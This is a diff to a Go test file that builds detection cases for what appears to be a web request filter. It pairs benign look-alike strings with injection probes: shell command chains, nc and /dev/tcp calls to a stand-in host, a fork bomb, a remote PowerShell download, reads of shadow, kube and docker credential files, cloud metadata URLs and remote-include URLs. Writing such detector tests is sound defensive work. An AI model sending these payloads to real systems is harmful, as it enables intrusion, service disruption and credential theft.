@@ -61,12 +61,12 @@ func probeCases() []langCase {
 	for _, p := range []string{"whoami;x", "id|nc h 1", "uname -a&&echo", "hostname; ls", "python3<<<'print(1)'", ";bc<<<2*3", "x=$t/udp/10.0.0.9/53", "a=/dev;cat</dev/null>${a}/tcp/h.example/4444",
 		"bomb() { bomb | bomb & } bomb", "f(){ f|f& };f", "~+", "~-", "~+2", "|cd /;cd var;ls", "&& cd /etc; cat shadow",
 		"ansible-playbook -i hosts play.yml", "chef-client -z", "knife ssh 'name:*' uptime", "cscli decisions list", "visudo", "time; cscli bouncers list", "true; knife status",
-		"zcat /var/log/auth.log.1.gz", "gunzip -c /var/log/syslog.2.gz", "xzcat /etc/backup.xz", "bzcat /root/db.bz2", ";regedit /s x.reg", "&bcdedit /set safeboot", "; iwr https://h.example/a.ps1"} {
+		"zcat /var/log/auth.log.1.gz", "gunzip -c /var/log/syslog.2.gz", "xzcat /etc/backup.xz", "bzcat /root/db.bz2", ";regedit /s x.reg", "&bcdedit /set safeboot", "; iwr https://h.example/a.ps1", ">/tmp/x", ">> /dev/shm/.k"} {
 		out = append(out, langCase{KindQueryValue, "cmd", p, ""}, langCase{KindBodyValue, "code", p, ""})
 		out[len(out)-1].rule, out[len(out)-2].rule = "rce", "rce"
 	}
 	for _, b := range []string{"whoami (the command) prints your name", "id card; passport", "id: 42; name: x", "~ 5 minutes", "~/projects", "~+ approx", "a << b", "x <<< y is a diff marker",
-		"install ansible, then run playbooks", "chef; cook", "Visudo edits sudoers safely", "gunzip the file", "zcat", "time: 5pm; place: hall", "f() { return a && b } g", "cd src; make"} {
+		"install ansible, then run playbooks", "chef; cook", "Visudo edits sudoers safely", "gunzip the file", "zcat", "time: 5pm; place: hall", "f() { return a && b } g", "cd src; make", "> /tmp is full", "->/tmp/x"} {
 		out = append(out, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
 	}
 	// JavaScript probes: timers, codecs and dialogs called alone; DOM
@@ -93,12 +93,19 @@ func probeCases() []langCase {
 	for _, p := range []string{"Process.spawn('id')", "Kernel.exec('ls')", "IO.popen('uname')", "Open3.capture2('id')"} {
 		out = append(out, langCase{KindQueryValue, "q", p, "rce-code-injection"})
 	}
+	for _, p := range []string{"java.Runtime", "java.ProcessBuilder"} {
+		out = append(out, langCase{KindQueryValue, "t", p, "java-class-name"}, langCase{KindCookieValue, "c", p, "java-class-name"})
+	}
+	out = append(out, langCase{KindQueryValue, "src", "http://2001:db8:1::9/s.php", "rfi-script-url"})
+	for _, b := range []string{"java.runtime.version", "Java Runtime", "java.lang"} {
+		out = append(out, langCase{KindQueryValue, "q", b, ""})
+	}
 	for _, b := range []string{"console.log in production is slow", "while (this) is fine, check it", "Spawn process (docs)", "kernel execution time"} {
 		out = append(out, langCase{KindQueryValue, "q", b, ""})
 	}
 	// Files that prove a read; metadata services; remote include
 	// through a path configuration variable.
-	for _, p := range []string{"/proc/version", "../../proc/cpuinfo", "/sys/class/net", "/sys/kernel/", "~/.docker/config.json", "/root/.kube/config"} {
+	for _, p := range []string{"/proc/version", "../../proc/cpuinfo", "/sys/class/net", "/sys/kernel/", "~/.docker/config.json", "/root/.kube/config", "../../.mysql_history"} {
 		out = append(out, langCase{KindQueryValue, "file", p, "lfi-sensitive-file"})
 	}
 	for _, p := range []string{"http://metadata.packet.net/metadata", "http://192.0.0.192/latest/"} {
@@ -107,7 +114,7 @@ func probeCases() []langCase {
 	for _, nm := range []string{"mosConfig_absolute_path", "_CONF[path]", "include_path", "base_dir", "lib_path"} {
 		out = append(out, langCase{KindQueryValue, nm, "https://h.example/x", "rfi-script-url"}, langCase{KindQueryValue, nm, "ftp://203.0.113.9", "rfi-script-url"})
 	}
-	for _, b := range []string{"/sys/admin", "systems class", "version: proc 2", "/proc", "docker config", "parse /proc/cpuinfo for flags", "reads `/sys/class/net` to list NICs"} {
+	for _, b := range []string{"/sys/admin", "systems class", "version: proc 2", "/proc", "docker config", "parse /proc/cpuinfo for flags", "reads `/sys/class/net` to list NICs", "history", "/docs/history"} {
 		out = append(out, langCase{KindQueryValue, "file", b, ""})
 	}
 	for _, nm := range []string{"image_path", "avatar_dir", "return_path", "path"} {
